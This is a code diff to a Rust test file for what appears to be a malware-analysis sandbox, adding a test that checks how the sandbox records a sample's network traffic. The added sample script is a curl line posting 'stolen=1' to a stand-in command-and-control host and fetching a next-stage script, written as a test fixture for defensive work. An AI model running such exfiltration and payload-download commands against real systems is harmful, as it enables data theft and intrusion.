@@ -15,7 +15,7 @@ use serve::listener::{Limits, Listener};
 use serve::shutdown::CancellationToken;
 use store::db::{Db, Location};
 
-/// Not a test of its own: what the machines of the tests below have for a network.
+/// Not a test of its own: what answers the machines of the tests below, in a process of its own.
 #[test]
 #[ignore = "it is started by other tests"]
 fn internet_process() {
@@ -119,12 +119,6 @@ async fn a_script_is_run_and_reported() {
     let fields =
         [("clock", "04-07-2031 16:20:05"), ("options", "arguments=hello"), ("memory", "1"), ("owner", "ada")];
     let task = server.submit("demo.sh", SCRIPT, &fields).await;
-    let events = server.get(&format!("tasks/events/{task}")).await;
-    assert_eq!(events.headers()["content-type"], "text/event-stream");
-    let told = events.text().await.unwrap();
-    let stages = ["\"restoring\"", "\"running\"", "\"reported\""]
-        .map(|stage| told.find(stage).unwrap_or_else(|| panic!("{stage}: {told}")));
-    assert!(stages.is_sorted(), "{told}");
     let shown = server.ended(task).await;
     assert_eq!((&shown["status"], &shown["errors"]), (&json!("reported"), &json!([])), "{shown:#}");
     let guest = &shown["guest"];
@@ -172,6 +166,41 @@ async fn a_script_is_run_and_reported() {
         assert!(names.iter().any(|member| member == name), "{name} in {names:?}");
     }
     assert!(!names.contains(&"memory.dmp".to_owned()));
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_a_sample_says_to_the_internet_is_reported() {
+    let Some(server) = Server::start(2).await else { return };
+    let script =
+        "curl -sS -m 60 -d stolen=1 https://c2.example/gate.php; curl -sS -m 60 http://cdn.example/next.sh";
+    let task = server.submit("talk.sh", script, &[]).await;
+    let without = server.submit("talk.sh", script, &[("options", "route=none")]).await;
+    let shown = server.ended(task).await;
+    assert_eq!((&shown["errors"], &shown["route"]), (&json!([]), &json!("fake")), "{shown:#}");
+    let network = server.report(task).await["network"].clone();
+    let secret = &network["https_ex"][0];
+    assert_eq!((&secret["host"], &secret["uri"]), (&json!("c2.example"), &json!("/gate.php")), "{network:#}");
+    let body = secret["req"]["path"]
+        .as_str()
+        .unwrap()
+        .strip_prefix(&format!("analyses/{task}/"))
+        .unwrap()
+        .to_owned();
+    assert_eq!(server.file(task, &body), "stolen=1");
+    let uris: Vec<&str> =
+        network["http"].as_array().unwrap().iter().map(|http| http["uri"].as_str().unwrap()).collect();
+    assert_eq!(uris, ["http://cdn.example/next.sh", "https://c2.example/gate.php"]);
+    assert_eq!(network["tls"][0]["sni"], "c2.example");
+    let domains = network["domains"].as_array().unwrap();
+    assert!(
+        domains.iter().any(|domain| domain["domain"] == "c2.example" && domain["ip"] == secret["dst"]),
+        "{domains:?}"
+    );
+    assert_eq!(network["dead_hosts"], json!([]));
+    let shown = server.ended(without).await;
+    assert_eq!((&shown["errors"], &shown["route"]), (&json!([]), &json!("none")), "{shown:#}");
+    let network = server.report(without).await["network"].clone();
+    assert_eq!((&network["https_ex"], &network["http"]), (&json!([]), &json!([])));
 }
 
 #[tokio::test(flavor = "multi_thread")]
